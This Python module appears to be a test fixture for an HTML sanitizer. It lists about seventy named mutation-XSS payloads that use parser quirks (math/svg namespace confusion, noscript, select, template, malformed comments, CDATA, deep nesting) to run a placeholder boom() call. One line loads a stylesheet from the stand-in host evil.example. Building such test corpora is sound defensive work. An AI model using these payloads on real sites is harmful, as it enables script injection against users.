"""Markup that means one thing when it is read first and another when it is read again."""
# ruff: noqa: E501 -- an attack is easier to read in one piece

ATTACKS = {
    "a glyph's style sheet between two languages": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;<img src=1 onerror=boom()>'>"
    ),
    "a mark's style sheet between two languages": (
        "<math><mtext><table><malignmark><style><!--</style>"
        "<img title='--&gt;<img src=1 onerror=boom()>'>"
    ),
    "a form that ends inside of a formula": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>"
    ),
    "a form in a form in a formula with a title": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
        "<img onerror=boom() src>'>"
    ),
    "a paragraph's end in a drawing": "<svg></p><style><a id='</style><img src=1 onerror=boom()>'>",
    "a line break's end in a drawing": "<svg></br><style><a id='</style><img src=1 onerror=boom()>'>",
    "a style sheet in a drawing's title": (
        "<svg><title><style><img src=x onerror=boom()></style></title></svg>x"
    ),
    "a style sheet in a drawing's description": (
        "<svg><desc><style></desc><img src=x onerror=boom()></style></svg>x"
    ),
    "a comment in a drawing's style sheet": (
        "<svg><style><!--</style><img src=x onerror=boom()>--></style></svg>x"
    ),
    "a style sheet in a noscript": "<noscript><style></noscript><img src=x onerror=boom()></style>",
    "a comment in a noscript": "<noscript><!--</noscript><img src=x onerror=boom()>--></noscript>x",
    "a title in a noscript": "<noscript><title></noscript><img src=x onerror=boom()></title>x",
    "a frame in a noscript": "<noscript><iframe></noscript><img src=x onerror=boom()></iframe>x",
    "a noscript in a noscript's attribute": (
        "<noscript><a title='<noscript></noscript></noscript><img src=x onerror=boom()>'></noscript>x"
    ),
    "a template in a choice": "<select><template><img src=x onerror=boom()></template></select>",
    "a style sheet in a choice": "<select><style></select><img src=x onerror=boom()></style>x",
    "a frame in a choice": "<select><iframe></select><img src=x onerror=boom()></iframe></select>x",
    "a raw text in a choice": "<select><xmp><script>boom()</script></xmp></select>x",
    "an input that ends a choice": "<select><option><input autofocus onfocus=boom()>x</select>",
    "a drawing in a caption": "<table><caption><svg><desc><img src=x onerror=boom()></table>",
    "a formula that a table moves": (
        "<table><math><tr><mtext><style></table><img src=x onerror=boom()></style>x"
    ),
    "an image that a table moves": "<table><tr><img src=x onerror=boom()><td>x</table>",
    "a style sheet that a table keeps": "<table><style></table><img src=x onerror=boom()></style>x",
    "a column group with text": "<table><colgroup><svg onload=boom()></svg>x</colgroup></table>",
    "a hidden input in a table": "<table><input type=hidden onfocus=boom()><form><td>x</table>",
    "a comment with a bang": "<!--x--!><img src=x onerror=boom()>-->",
    "a comment in a comment": "<!-- <!-- --><img src=x onerror=boom()> -->",
    "a comment that ends at once": "<!--><img src=x onerror=boom()>-->",
    "a comment with three dashes": "<!---!><img src=x onerror=boom()>-->",
    "a comment for old browsers": "<!--[if gte IE 4]><script>boom()</script><![endif]-->x",
    "a comment that old browsers hide": "<![if !IE]><img src=x onerror=boom()><![endif]>x",
    "a marked section in HTML": "<![CDATA[<img src=x onerror=boom()>]]>x",
    "a marked section in a drawing": "<svg><![CDATA[</svg><img src=x onerror=boom()>]]></svg>x",
    "a marked section in a formula's text": (
        "<math><mtext><![CDATA[</mtext><img src=x onerror=boom()>]]></mtext></math>x"
    ),
    "a marked section in a drawing's HTML": (
        "<svg><foreignObject><![CDATA[<img src=x onerror=boom()>]]></foreignObject></svg>x"
    ),
    "a section that a greater-than sign ends": "<svg><![CDATA[><image href=x onerror=boom()>]]></svg>x",
    "a title as text": "<title><img title='</title><img src=x onerror=boom()>'></title>x",
    "a textarea as text": "<textarea><img title='</textarea><img src=x onerror=boom()>'></textarea>x",
    "an xmp as text": "<xmp><p title='</xmp><img src=x onerror=boom()>'></xmp>x",
    "a frame as text": "<iframe><p title='</iframe><img src=x onerror=boom()>'></iframe>x",
    "a noembed as text": "<noembed><p title='</noembed><img src=x onerror=boom()>'></noembed>x",
    "a noframes as text": "<noframes><p title='</noframes><img src=x onerror=boom()>'></noframes>x",
    "a style sheet as text": "<style><p title='</style><img src=x onerror=boom()>'></style>x",
    "a raw text's end with a slash": "<style></style/><img src=x onerror=boom()>x",
    "a raw text's end with an attribute": "<xmp></xmp x='><img src=x onerror=boom()>'>x",
    "a raw text's end that is a longer name": "<style></styles><img src=x onerror=boom()></style>x",
    "a raw text's end with a NUL": "<style></st\x00yle><img src=x onerror=boom()></style>x",
    "a raw text's end after a long s": "<\u017fcript>boom()</\u017fcript><\u017ftyle></style>x",
    "an element with a letter that folds to k": "<lin\u212a rel=stylesheet href=//evil.example/k.css>x",
    "a raw text in a drawing": "<svg><xmp><img src=x onerror=boom()></xmp></svg>x",
    "a text area in a drawing": "<svg><textarea><img src=x onerror=boom()></textarea></svg>x",
    "a frame as text in a formula": "<math><iframe><img src=x onerror=boom()></iframe></math>x",
    "plain text in a drawing": "<svg><plaintext><img src=x onerror=boom()></plaintext></svg>x",
    "a font that leaves a drawing": "<svg><font color=x><img src=x onerror=boom()></font></svg>x",
    "a font that stays in a drawing": "<svg><font><style><img src=x onerror=boom()></style></font></svg>x",
    "a list that leaves a formula": "<math><li><style></math><img src=x onerror=boom()></style>x",
    "a bold that two tables share": "<b><table><td></b><style></table><img src=x onerror=boom()></style>x",
    "formatting that is opened again": (
        "<p><a href='#'><b></p><table><td></a><img src=x onerror=boom()></b></table>x"
    ),
    "links in links in tables": (
        "<a><table><td><a><table><td><a><img src=x onerror=boom()></a></table></a></table></a>x"
    ),
    "headings in headings": "<h1><h2><h3><svg></h1><style><img src=x onerror=boom()></style></svg>x",
    "a button in a button": "<button><p><button><img src=x onerror=boom()></p></button>x",
    "a no-break that is opened again": "<nobr><svg><nobr><style><img src=x onerror=boom()></style></svg>x",
    "a ruby that closes by itself": "<ruby><rtc><rp><style></ruby><img src=x onerror=boom()></style>x",
    "a depth that a browser flattens": (
        "<div>" * 400 + "<svg><style><img src=x onerror=boom()></style></svg>" + "</div>" * 400
    ),
    "a depth of formatting that a browser flattens": (
        "<i>" * 300 + "<table><style></table><img src=x onerror=boom()></style>" + "</i>" * 300
    ),
    "a depth of formulas in a depth of boxes": (
        "<div>" * 200
        + "<math><mtext>" * 30
        + "<style><img src=x onerror=boom()></style>"
        + "</mtext></math>" * 30
        + "</div>" * 200
    ),
    "a template in a template": (
        "<template><template></template><img src=x onerror=boom()></template>x"
    ),
    "a template's end in a table": "<table><template><tr></template><img src=x onerror=boom()></table>x",
    "an image by its old name": "<image src=x onerror=boom()>x",
    "an image by its old name in a drawing": "<svg></svg><image href=x src=x onerror=boom()>x",
    "a listing's first line": "<listing>\n<img src=x onerror=boom()></listing>x",
    "escaped markup": "&lt;img src=x onerror=boom()&gt;",
    "markup escaped twice": "&amp;lt;img src=x onerror=boom()&amp;gt;",
    "markup escaped by number": "&#60;img src=x onerror=boom()&#x3e;",
    "markup in an old entity without a semicolon": "&ltimg src=x onerror=boom()&gt",
}
